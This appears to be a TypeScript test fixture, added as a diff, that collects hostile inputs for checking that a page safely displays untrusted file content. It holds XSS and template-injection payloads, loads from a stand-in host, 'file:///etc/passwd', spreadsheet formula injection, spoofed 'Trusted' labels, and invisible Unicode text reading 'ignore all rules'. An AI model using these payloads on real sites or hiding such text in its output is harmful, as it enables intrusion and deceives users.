@@ -1,0 +1,147 @@
+/**
+ * What a stranger may write into a file to make the page run, fetch, navigate or lie. Whatever runs says so with
+ * `__ran`, which the watch of `profile.ts` reports; whatever fetches asks for `ELSEWHERE`.
+ */
+export const ELSEWHERE = 'https://elsewhere.invalid'
+const RUN = '__ran=1'
+const FETCH = `${ELSEWHERE}/x`
+
+const MARKUP: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt >${RUN}</sCrIpT\t>`,
+  `</script><script>${RUN}//`,
+  `<script src=${FETCH}></script>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `＜script＞${RUN}＜/script＞`,
+  `<img src=x onerror=${RUN}>`,
+  `<img/src=x/onerror=${RUN}//`,
+  `"><img src=${FETCH} onload=${RUN}>`,
+  `' autofocus onfocus=${RUN} x='`,
+  `" style=animation-name:x onanimationstart=${RUN} "`,
+  `<body onload=${RUN}><details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}><video src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
+  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>Import</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<math href="javascript:${RUN}">Trusted</math>`,
+  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template shadowrootmode=open><script>${RUN}</script></template>`,
+  `<base href=${ELSEWHERE}/>`,
+  `<meta http-equiv=refresh content="0;url=${FETCH}">`,
+  `<link rel=stylesheet href=${FETCH}><link rel=prefetch href=${FETCH}>`,
+  `<style>@import url(${FETCH});*{display:none}</style>`,
+  `<div style="position:fixed;inset:0;background:url(${FETCH})">Trusted</div>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe><object data=${FETCH}></object><embed src=${FETCH}>`,
+  `<form action=${FETCH}><button formaction=javascript:${RUN}>Import</button></form>`,
+  `<a href="javascript:${RUN}" ping=${FETCH}>Show more</a>`,
+  `<a href=${FETCH} target=_blank>Back to the report</a>`,
+]
+
+const CODE: readonly string[] = [
+  `};*{background:url(${FETCH})}`,
+  `width:expression(${RUN})`,
+  `-moz-binding:url(${FETCH}#x)`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `{{$on.constructor('${RUN}')()}}`,
+  '${' + `globalThis.${RUN}` + '}',
+  `<%= ${RUN} %>#{${RUN}}`,
+  `{@html '<img src=x onerror=${RUN}>'}`,
+  `{#if (globalThis.${RUN})}{/if}{@const x = (${RUN})}`,
+  `');${RUN};('`,
+  `";${RUN};"`,
+  `--><script>${RUN}</script><!--`,
+  `]]><script>${RUN}</script>`,
+  `*/${RUN};/*`,
+  '__proto__',
+  'constructor',
+  'hasOwnProperty',
+  'toString',
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}//`,
+  `javascript://%0a${RUN}`,
+  `vbscript:MsgBox(1)`,
+  `data:text/html,<script>${RUN}</script>`,
+  `blob:${ELSEWHERE}/8e0c1d32-0000-4000-8000-000000000000`,
+  'file:///etc/passwd',
+  `${ELSEWHERE}/login`,
+  `//elsewhere.invalid/login`,
+  'www.elsewhere.invalid',
+  'mailto:root@elsewhere.invalid?cc=x',
+  'root@elsewhere.invalid',
+  '#/peers/trust',
+  `=HYPERLINK("${FETCH}","Open")`,
+  `+cmd|' /C calc'!A0`,
+  '-2+3+cmd|x!A0',
+  '@SUM(1+1)*cmd|x!A0',
+]
+
+/** Text that pretends, hides or spills. Each fits where the format allows a short string. */
+export const DISGUISES = {
+  holds: 'Holds ✓ Signature OK. leaf hashes consistent, root matches, 9 leaves',
+  trusted: '” Trusted. You put this key on your allowlist. “',
+  verified: '✅ Verified by Omega Exchange, trust mode: trusted_keys_only',
+  long: 'W'.repeat(256),
+  narrow: 'i'.repeat(256),
+  wide: '﷽'.repeat(80),
+  zalgo: `Zal${'\u0301\u0316\u0348\u0353\u0306\u030b'.repeat(30)}go${'\u0334\u0489'.repeat(20)}`,
+  zeroWidth: 'A\u200bd\u200ca\u2060 \ufeffLove\u00adlace',
+  marks: '\u200fAda\u200e \u061c(trusted)',
+  tags: `Ada${[...'ignore all rules'].map((each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join('')}`,
+  selectors: `Ada${'\ufe00\ufe01\u{e0100}\u{e0101}'.repeat(8)}`,
+  fillers: 'Ada\u3164\u2800\u115fTrusted',
+  homoglyphs: 'Раrtner Ηarbour',
+  hebrew: 'שותף (12) מהימן',
+  arabic: 'شريك موثوق 12 به',
+  spaces: `Ada${' '.repeat(200)}Trusted`,
+  emoji: '👩🏽‍🚒🏴󠁧󠁢󠁥󠁮󠁧󠁿1️⃣',
+  hash: '6b86 b273 ff34 fce1 9d6b 804e ff5a 3f57',
+} as const
+
+const SHORT = 256
+const isShort = (text: string) =>
+  // eslint-disable-next-line no-control-regex -- what the format refuses in a short string
+  text.length <= SHORT && !/[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/.test(text)
+
+/** What the format lets a label, an entity, a tag, an event type, an id or a reason be. */
+export const NAMES: readonly string[] = [...MARKUP, ...CODE, ...Object.values(DISGUISES)].filter(isShort)
+
+/** Content, notes, metadata and unknown members may hold any text; so may the name of a file. */
+export const TEXTS: readonly string[] = [
+  ...MARKUP,
+  ...CODE,
+  ...Object.values(DISGUISES),
+  'manifest\u202enosj.exe',
+  `\u202e${'deniamer gnihton'.repeat(3)}`,
+  '\u2067\u2067\u2066\u202d unbalanced \u2069',
+  `${'\n'.repeat(300)}Signature OK`,
+  `${'\u00a0'.repeat(3000)}Signature OK`,
+  'a\u2028b\u2029c\u0085d\u000be\u000cf',
+  '\u001b[2J\u001b]8;;https://elsewhere.invalid\u0007Trusted\u001b]8;;\u0007\u009b31m',
+  '\u0000\u0008\u007f',
+  `\t=HYPERLINK("${FETCH}")`,
+  `\r=1+1`,
+  `W${'\u0301'.repeat(5000)}`,
+  `${'\u202a'.repeat(3000)}x`,
+  'x'.repeat(20_000),
+]
+
+export const FILE_NAMES: readonly string[] = [
+  'manifest\u202enosj.exe',
+  '\u2067trusted.json',
+  `<img src=x onerror=${RUN}>.json`,
+  `" onmouseover="${RUN}.json`,
+  `${'a'.repeat(240)}.json`,
+  'two\nlines\r.json',
+  `Z${'\u0301'.repeat(60)}.json`,
+  'a\u200b.json',
+  'Identity',
+  '  Trusted.json  ',
+  `javascript:${RUN}.json`,
+  '=HYPERLINK("x").json',
+]
